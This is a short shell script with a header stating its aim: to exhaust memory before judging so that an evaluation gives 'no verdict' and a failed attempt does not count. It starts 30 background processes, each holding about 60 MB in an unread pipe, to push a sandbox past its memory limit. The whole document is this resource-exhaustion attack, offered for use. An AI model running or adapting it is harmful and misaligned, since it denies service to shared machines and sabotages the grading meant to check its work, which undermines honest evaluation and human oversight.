# ---
# tries: Takes memory in many processes, each of them a little.
# place: before
# gain: no verdict, so that the attempt may not count
# helps: memory-limit
# ---
attack_count=0
while [ "$attack_count" -lt 30 ]; do
  attack_count=$((attack_count + 1))
  # dd fills its block at once, and keeps it while nobody reads.
  dd if=/dev/zero bs=60000000 count=1 2>/dev/null | sleep 25 &
done 2>/dev/null
wait
